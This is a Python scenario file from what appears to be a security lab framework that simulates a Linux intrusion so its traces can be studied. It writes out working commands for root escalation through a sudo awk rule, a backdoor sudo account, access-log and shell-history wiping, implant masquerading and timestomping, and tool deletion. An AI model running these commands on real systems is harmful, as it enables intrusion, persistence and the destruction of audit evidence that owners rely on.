"""Anti-forensics: a backdoor account, then log, history and timestamp tampering.

Modelled on intrusions that cover their tracks on Linux (public reports on Linux APT
tooling and on TC engagement defense-evasion phases): the attacker gets root through a
careless sudo rule for awk, adds a backdoor account with sudo rights, deletes its requests
from the web server's access log, clears and disables shell history, installs a copy of its
implant under a system name with a timestamp copied from a system binary, and deletes its
tools.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Action, Channel, Plan, Scenario, StepSpec
from provarmor.lab.scenarios.implants import drop_dir, implant_payload
from provarmor.lab.scenarios.steps import (
    delete,
    deletion_step,
    download,
    exploit_step,
    implant_step,
    start_implant,
    sudo_rule,
    web_exploit,
)

STEPS = (
    exploit_step(),
    implant_step(),
    StepSpec(
        name="sudo-escalation",
        summary="A NOPASSWD sudo rule for awk runs commands as root via system().",
        techniques=(t.SUDO, t.LOCAL_ACCOUNT_DISCOVERY),
    ),
    StepSpec(
        name="backdoor-account",
        summary="A new local account is created and added to the sudo group.",
        techniques=(t.LOCAL_ACCOUNT,),
    ),
    StepSpec(
        name="clear-logs",
        summary="The attacker's requests are deleted from the web server's access log.",
        techniques=(t.CLEAR_LOGS,),
    ),
    StepSpec(
        name="clear-history",
        summary="Shell history is truncated and linked to /dev/null; HISTFILE is unset in the "
        "new account's rc file.",
        techniques=(t.CLEAR_HISTORY, t.IMPAIR_HISTORY),
    ),
    StepSpec(
        name="masquerade-timestomp",
        summary="A copy of the implant is installed under a system name and given a system "
        "binary's timestamps.",
        techniques=(t.MASQUERADE_NAME, t.TIMESTOMP),
    ),
    deletion_step("delete-tools", "The working directory is deleted."),
)


def _as_root(command: str) -> str:
    """``command`` run as root through the sudo rule for awk (no single quotes inside)."""
    return f"sudo -n awk 'BEGIN {{ exit system(\"{command}\") }}'"


def plan(ctx: LabContext) -> Plan:
    implant = implant_payload(ctx, shebang=True)
    folder = drop_dir(ctx)
    account = ctx.names.pick(("sysadmin", "backup2", "support", "mysqld"))
    fake = f"/usr/local/sbin/{ctx.names.system_like()}"
    ops_history = f"{ctx.home(ctx.ops_user)}/.bash_history"
    sudoers = sudo_rule(ctx, files=("reports", "stats", "logtools"), program="/usr/bin/awk")
    return Plan(
        setup_files=(sudoers,),
        payloads=(implant,),
        accounts=(account,),
        actions=(
            web_exploit("id; sudo -n -l"),
            start_implant(ctx, implant),
            Action(
                step="sudo-escalation",
                channel=Channel.IMPLANT,
                command=_as_root("id; cut -d: -f1,3 /etc/passwd | tail -n 5"),
            ),
            Action(
                step="backdoor-account",
                channel=Channel.IMPLANT,
                command=_as_root(
                    f"useradd -m -s /bin/bash {account} && "
                    f"usermod -aG sudo {account} && id {account}"
                ),
            ),
            Action(
                step="clear-logs",
                channel=Channel.IMPLANT,
                command=_as_root(f"sed -i /ping/d {ctx.web.log} && wc -l {ctx.web.log}"),
            ),
            Action(
                step="clear-history",
                channel=Channel.IMPLANT,
                command=_as_root(
                    f": > {ops_history}; ln -sf /dev/null {ops_history}; "
                    f"echo unset HISTFILE >> /home/{account}/.bashrc; "
                    "history -c 2>/dev/null; ls -la " + ops_history
                ),
            ),
            Action(
                step="masquerade-timestomp",
                channel=Channel.IMPLANT,
                command=f"{download(ctx, implant, f'{folder}/a')} && "
                + _as_root(
                    f"cp {folder}/a {fake} && chmod 755 {fake} && "
                    f"touch -r /usr/bin/ls {fake} && ls -la --time-style=+%F {fake}"
                ),
            ),
            delete("delete-tools", Channel.IMPLANT, folder),
        ),
        artifacts=(folder, fake),
    )


SCENARIO = Scenario(
    name="log-tampering",
    title="Backdoor account, access-log and history wiping, masquerading and timestomping",
    modelled_on="Linux anti-forensics seen in public APT reports and the TC engagements' "
    "defense-evasion phases",
    description=(
        "After entering through the web application's command injection and starting a "
        "fileless implant, the attacker abuses a NOPASSWD sudo rule for awk to run commands "
        "as root. It creates a backdoor account in the sudo group, deletes every ping "
        "request (its own exploit) from the web server's access log with sed, truncates the "
        "administrator's shell history and links it to /dev/null, disables history for the "
        "new account, installs a copy of the implant in /usr/local/sbin under a system "
        "daemon's name with timestamps copied from /usr/bin/ls, and deletes its tools."
    ),
    root_cause=(
        "The web application's ping handler (command injection), escalated through the "
        "misconfigured sudo rule for awk."
    ),
    steps=STEPS,
    plan=plan,
)
